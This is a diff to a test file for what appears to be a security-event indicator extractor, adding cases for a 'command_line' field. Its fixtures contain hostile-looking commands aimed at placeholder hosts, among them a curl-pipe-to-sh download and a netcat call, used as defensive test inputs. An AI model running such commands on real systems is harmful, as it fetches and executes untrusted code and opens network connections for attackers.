@@ -89,6 +89,12 @@ describe("The indicators of an event", () => {
     ],
     ["hashes of a file as ECS maps them", { file: { hash: { sha256: "ab".repeat(32) } } }, ["ab".repeat(32)]],
     ["a command line", { cmdline: "curl http://files.example/a.sh|sh" }, ["http://files.example/a.sh"]],
+    ["a command line by its other name", { command_line: "curl bad.example" }, ["bad.example"]],
+    [
+      "arguments that only look like those of the line",
+      { command_line: "curl notbad.example", process_args: "bad.example" },
+      ["bad.example"],
+    ],
     ["Falco's command line", { "proc.cmdline": "nc bad.example 1" }, ["bad.example"]],
     ["arguments in a list", { process_args: ["-c", "wget bad.example/x"] }, ["bad.example"]],
     [
@@ -121,7 +127,17 @@ describe("The indicators of an event", () => {
   });
 
   it("can be asked of anything, at a bounded cost", () => {
-    const names = ["domain", "dst_ip", "url", "hashes", "file", "cmdline", "process_args", "proc.cmdline"];
+    const names = [
+      "domain",
+      "dst_ip",
+      "url",
+      "hashes",
+      "file",
+      "cmdline",
+      "command_line",
+      "process_args",
+      "proc.cmdline",
+    ];
     fc.assert(
       fc.property(fc.dictionary(fc.constantFrom(...names), fc.jsonValue()), (details) => {
         expect(() => enrich(makeEvent(details as JsonMap))).not.toThrow();
